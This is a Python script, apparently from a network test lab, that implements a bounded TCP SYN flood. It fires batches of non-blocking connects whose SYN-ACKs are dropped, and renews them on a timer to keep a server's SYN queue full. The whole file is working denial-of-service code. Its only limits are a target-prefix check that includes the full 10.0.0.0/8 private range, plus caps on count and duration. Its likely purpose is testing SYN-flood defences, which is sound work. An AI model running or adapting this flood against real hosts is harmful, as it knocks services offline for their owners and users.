#!/usr/bin/env python3
"""A bounded SYN flood for the lab: N non-blocking connect()s from one source address, whose
SYN-ACKs the caller drops (an nft rule on the flooding host), so each one leaves a half-open
request socket (SYN-RECV) on the server until its SYN-ACK retries run out. Every --every seconds
the batch is renewed, so the server's SYN queue stays full for as long as this runs.

    syn-flood.py --from 203.0.113.99 --to 203.0.113.10 --port 8080 [--count 200] [--every 20]
                 [--max-seconds 600]

Prints "flooding" after the first batch. Ends on SIGTERM/SIGINT or after --max-seconds.
Lab use only: it refuses destinations outside the documentation prefixes the lab uses.
"""
import argparse
import ipaddress
import socket
import sys
import time

from labtool import stop_requested

LAB_PREFIXES = [ipaddress.ip_network(n) for n in ("10.0.0.0/8", "203.0.113.0/24", "2001:db8::/32")]


def main() -> int:
    p = argparse.ArgumentParser(prog="syn-flood.py")
    p.add_argument("--from", dest="source", required=True)
    p.add_argument("--to", dest="target", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--every", type=float, default=20)
    p.add_argument("--max-seconds", type=float, default=600)
    a = p.parse_args()
    target = ipaddress.ip_address(a.target)
    if not any(target in n for n in LAB_PREFIXES):
        p.error(f"--to {a.target} is not a lab address")
    if not 1 <= a.count <= 5000:
        p.error("--count must be 1..5000")
    if a.every < 1 or a.max_seconds > 3600:
        p.error("--every must be >= 1 and --max-seconds <= 3600")
    af = socket.AF_INET6 if target.version == 6 else socket.AF_INET

    stopping = stop_requested()

    def batch():
        out = []
        for _ in range(a.count):
            s = socket.socket(af, socket.SOCK_STREAM)
            s.setblocking(False)
            s.bind((a.source, 0))
            s.connect_ex((a.target, a.port))
            out.append(s)
        return out

    sockets = batch()
    print("flooding", flush=True)
    deadline = time.monotonic() + a.max_seconds
    renew = time.monotonic() + a.every
    while not stopping() and time.monotonic() < deadline:
        time.sleep(0.2)
        if time.monotonic() >= renew:
            fresh = batch()
            for s in sockets:
                s.close()
            sockets = fresh
            renew = time.monotonic() + a.every
    for s in sockets:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
